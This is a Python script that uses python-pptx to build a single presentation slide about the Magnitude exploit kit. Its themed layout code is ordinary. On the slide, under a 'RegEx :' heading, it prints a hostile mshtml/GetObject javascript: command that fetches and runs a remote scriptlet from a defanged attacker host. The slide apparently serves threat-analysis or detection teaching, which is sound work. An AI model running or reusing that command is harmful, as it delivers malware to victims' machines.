
from dataclasses import dataclass

from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Emu, Pt

PX = 914400 / 100.8


def px(*lengths):
    return [Emu(round(length * PX)) for length in lengths]


@dataclass(frozen=True)
class Theme:
    font: str = "Times New Roman"
    panel: str = "454551"
    rule: str = "24282B"
    accent: str = "E32D91"
    title: str = "404040"
    light: str = "FFFFFF"
    code: str = "FFFF00"
    title_size: int = 34
    heading_size: int = 24
    code_size: int = 16
    line_width: float = 1.75


def write_text(frame, text, *, font, size, color, bold=False,
               anchor=MSO_ANCHOR.TOP, insets=(10, 5), spacing=1.0):
    """Each newline starts a paragraph; each vertical tab breaks a line."""
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    frame.margin_left, frame.margin_top = px(*insets)
    frame.margin_right, frame.margin_bottom = px(*insets)
    frame.text = text
    for paragraph in frame.paragraphs:
        paragraph.alignment = PP_ALIGN.LEFT
        paragraph.line_spacing = spacing
        paragraph.space_before = paragraph.space_after = Pt(0)
        for run in paragraph.runs:
            run.font.name = font
            run.font.size = Pt(size)
            run.font.bold = bold
            run.font.color.rgb = RGBColor.from_string(color)


class SlideBuilder:
    def __init__(self, slide, theme):
        self.slide = slide
        self.theme = theme

    def title(self, text, left, top, width, height):
        title = self.slide.shapes.title
        title.left, title.top, title.width, title.height = px(left, top, width, height)
        write_text(title.text_frame, text, font=self.theme.font,
                   size=self.theme.title_size, color=self.theme.title,
                   anchor=MSO_ANCHOR.BOTTOM, insets=(0, 0))

    def block(self, color, left, top, width, height):
        block = self.slide.shapes.add_shape(
            MSO_SHAPE.RECTANGLE, *px(left, top, width, height))
        block.shadow.inherit = False
        block.fill.solid()
        block.fill.fore_color.rgb = RGBColor.from_string(color)
        block.line.fill.background()

    def divider(self, left, right, y):
        divider = self.slide.shapes.add_connector(
            MSO_CONNECTOR.STRAIGHT, *px(left, y, right, y))
        divider.line.color.rgb = RGBColor.from_string(self.theme.light)
        divider.line.width = Pt(self.theme.line_width)
        SubElement(divider._element.spPr, qn("a:effectLst"))

    def text(self, text, left, top, width, height, **text_format):
        box = self.slide.shapes.add_textbox(*px(left, top, width, height))
        write_text(box.text_frame, text, font=self.theme.font, **text_format)


presentation = Presentation()
presentation.slide_width, presentation.slide_height = px(1344, 756)
title_only = presentation.slide_layouts[5]
theme = Theme()
page = SlideBuilder(presentation.slides.add_slide(title_only), theme)

# Dark panel, title rule and accent tab
page.block(theme.panel, 575, 0, 769, 756)
page.block(theme.rule, 157, 255, 1, 140)
page.block(theme.accent, 515, 67, 112, 42)

# Title
page.title("MAGNITUDE EK", 157, 444, 403, 178)

# Dividers around the expression
for divider_y in (272, 616):
    page.divider(589, 1270, divider_y)

# Heading and expression
page.text("RegEx :", 623, 122, 146, 50,
          size=theme.heading_size, color=theme.light, bold=True)
expression = "\n".join((
    'javascript:"\\..\\mshtml,RunHTMLApplication\v";document.write();GetObject',
    "('script:http://dx30z30a4t11l7be .lieslow[.]faith/",
    "5aad4b91a0da20d4faab0991bdbe7138')",
))
page.text(expression, 589, 357, 688, 118, size=theme.code_size,
          color=theme.code, anchor=MSO_ANCHOR.MIDDLE, spacing=1.05)

presentation.save("out.pptx")
